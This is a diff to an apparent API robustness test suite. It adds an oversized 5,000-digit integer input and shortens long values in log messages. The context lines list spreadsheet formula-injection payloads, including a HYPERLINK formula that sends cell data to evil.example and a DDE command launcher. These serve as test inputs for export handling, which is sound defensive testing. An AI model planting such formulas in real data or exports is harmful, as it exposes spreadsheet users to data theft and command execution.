@@ -21,8 +21,8 @@ so a new route is covered without editing this file. Sections:
     too), then ana's world is read again: it must be as it was.
 ``numbers``
     Every number of every JSON body (from the schema, nested ones too) sent as ``NaN``,
-    ``Infinity``, ``-Infinity``, ``1e999``, ``-1e999`` in an otherwise valid body: a 422
-    naming the field; oversized ones (``1e308``, ``10**30``): never a 5xx; numeric query and
+    ``Infinity``, ``-Infinity``, ``1e999``, ``-1e999`` and an integer of 5,000 digits in an
+    otherwise valid body: a 422 naming the field; oversized ones (``1e308``, ``10**30``): never a 5xx; numeric query and
     path parameters likewise.
 ``csv``
     Every operation documented as ``text/csv``, once people with formula names
@@ -81,6 +81,8 @@ ROLES = ("anonymous", "bad_token", "other_member", "other_organiser", "same_memb
 OUTSIDERS = ("anonymous", "bad_token", "other_member", "other_organiser")
 NON_FINITE = ("NaN", "Infinity", "-Infinity", "1e999", "-1e999")
 OVERSIZED = ("1e308", "-1e308", str(10**30), str(-(10**30)))
+#: An integer longer than Python reads (4,300 digits): a 422 naming the field, as NaN is
+TOO_MANY_DIGITS = "9" * 5000
 FORMULA_NAMES = (
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
     "+cmd|' /C calc'!A0",
@@ -646,7 +648,8 @@ def numbers(world: World, schema: Schema, tokens: tuple[str, ...]) -> Section:
                     target[last] = marker
                     raw = json.dumps(body).replace(f'"{marker}"', token).encode()
                     r = _request(client, schema, method, path, op, world, "owner", raw=raw)
-                    what = f"{method} {path} {dotted}={token}"
+                    shown = token if len(token) < 20 else f"{token[:8]}...({len(token)} digits)"
+                    what = f"{method} {path} {dotted}={shown}"
                     out.count(r.status_code, what)
                     if token in tokens:
                         if r.status_code != 422:
@@ -666,7 +669,8 @@ def numbers(world: World, schema: Schema, tokens: tuple[str, ...]) -> Section:
                     if p["in"] == "query":
                         url += ("&" if "?" in url else "?") + f"{p['name']}={token}"
                     r = _request(client, schema, method, path, op, world, "owner", url=url)
-                    what = f"{method} {path} {p['name']}={token}"
+                    shown = token if len(token) < 50 else f"{token[:8]}...({len(token)} digits)"
+                    what = f"{method} {path} {p['name']}={shown}"
                     out.count(r.status_code, what)
                     if r.status_code != 422:
                         out.findings.append(f"{what}: {r.status_code}, not 422")
@@ -944,7 +948,9 @@ def run(args: argparse.Namespace) -> int:
         )
         steps: dict[str, Callable[[], Section]] = {
             "numbers": lambda: numbers(
-                world, schema, NON_FINITE if not args.quick else NON_FINITE[:4]
+                world,
+                schema,
+                (NON_FINITE if not args.quick else NON_FINITE[:4]) + (TOO_MANY_DIGITS,),
             ),
             "csv": lambda: csv_exports(world, schema),
             "load": lambda: load(
